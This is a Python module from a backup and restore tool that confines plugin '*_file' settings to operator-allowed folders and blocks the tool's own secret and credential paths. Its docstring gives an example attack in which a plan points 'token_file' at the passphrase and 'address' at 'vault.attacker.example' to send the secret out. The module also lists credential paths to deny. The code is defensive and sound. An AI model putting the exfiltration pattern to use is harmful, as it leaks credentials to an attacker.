"""Which files a ``*_file`` setting may name: inside the folders the operator allows, never drtool's own secrets.

A plugin reads a ``*_file`` setting (Vault's ``token_file``, ``unseal_keys_file``, dns-certs'
``tsig_key_file``) and sends what it holds to the server the same settings name. When a restore plan
supplies the setting, its author chooses both ends: ``token_file: /var/run/secrets/drtool/key/passphrase``
and ``address: https://vault.attacker.example`` hand the store's passphrase over as ``X-Vault-Token``. So a
path is judged before anything reads it:

- never one of drtool's own secrets, whatever the operator allows: the files named by
  ``DRTOOL_PASSPHRASE_FILE``, ``DRTOOL_KEYFILE``, ``DRTOOL_RECOVERY_SHARES_FILE``,
  ``AWS_SHARED_CREDENTIALS_FILE`` and ``AWS_CONFIG_FILE``, ``~/.aws/``, and the secret folders the shipped
  manifests mount (``/var/run/secrets/drtool/``, and the pod's ServiceAccount token under
  ``/var/run/secrets/kubernetes.io/``);
- always inside one of the folders in ``DRTOOL_FILE_FOLDERS`` (the operator's, separated by ``:``); with
  none listed, no path is allowed.

Paths are compared after resolving symlinks and ``..``, so a link in an allowed folder to the passphrase
file is refused as the passphrase file. The policy is read from drtool's own environment: build it in
drtool's process (a plan step's process no longer holds the credential variables that name the secrets).
"""

from __future__ import annotations

import dataclasses
import os
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

from drtool.errors import UsageError

ALLOW_ENV = "DRTOOL_FILE_FOLDERS"
SECRET_FILE_ENV = (
    "DRTOOL_PASSPHRASE_FILE",
    "DRTOOL_KEYFILE",
    "DRTOOL_RECOVERY_SHARES_FILE",
    "AWS_SHARED_CREDENTIALS_FILE",
    "AWS_CONFIG_FILE",
)
SECRET_FOLDERS = ("~/.aws", "/var/run/secrets/drtool", "/run/secrets/drtool", "/var/run/secrets/kubernetes.io")
SUFFIX = "_file"


def _real(path: str | Path) -> Path:
    return Path(os.path.realpath(Path(path).expanduser()))


def _within(path: Path, folder: Path) -> bool:
    return path == folder or folder in path.parents


@dataclasses.dataclass(frozen=True)
class FilePolicy:
    """The folders ``*_file`` settings may name (``allowed``) and drtool's own secrets they never may."""

    allowed: tuple[Path, ...]
    secrets: tuple[Path, ...]  # files and folders, resolved

    @classmethod
    def from_env(cls, environ: Mapping[str, str] | None = None) -> FilePolicy:
        environ = os.environ if environ is None else environ
        allowed = tuple(_real(p) for p in environ.get(ALLOW_ENV, "").split(os.pathsep) if p.strip())
        named = [environ[var] for var in SECRET_FILE_ENV if environ.get(var)]
        return cls(allowed, tuple(_real(p) for p in (*named, *SECRET_FOLDERS)))

    def refusal(self, setting: str, value: str) -> str | None:
        """Why ``setting: value`` may not be read, or None when it may."""
        path = _real(value)
        if any(_within(path, secret) for secret in self.secrets):
            return f"{setting} names {value}, one of drtool's own secrets: a setting never reads them"
        if not any(_within(path, folder) for folder in self.allowed):
            where = ", ".join(map(str, self.allowed)) or "none"
            return f"{setting} names {value}, outside the folders {ALLOW_ENV} allows ({where})"
        return None

    def check(self, setting: str, value: str) -> Path:
        """The resolved path ``setting`` may read; else a one-line UsageError (nothing was read)."""
        why = self.refusal(setting, value)
        if why:
            raise UsageError(why, f"put the file in a folder listed in {ALLOW_ENV} (docs/threat-model.md)")
        return _real(value)


def file_settings(settings: Any, loc: tuple[str | int, ...] = ()) -> Iterator[tuple[tuple[str | int, ...], str]]:
    """Every ``*_file`` setting in a (nested) settings mapping, as (its path of keys and indexes, its value)."""
    if isinstance(settings, Mapping):
        for key, value in settings.items():
            if str(key).endswith(SUFFIX) and isinstance(value, str):
                yield (*loc, key), value
            else:
                yield from file_settings(value, (*loc, key))
    elif isinstance(settings, list):
        for i, item in enumerate(settings):
            yield from file_settings(item, (*loc, i))


def dotted(loc: tuple[str | int, ...]) -> str:
    """``("steps", 0, "target", "token_file")`` as ``steps[0].target.token_file``."""
    return ".".join(str(p) if isinstance(p, str) else f"[{p}]" for p in loc).replace(".[", "[")
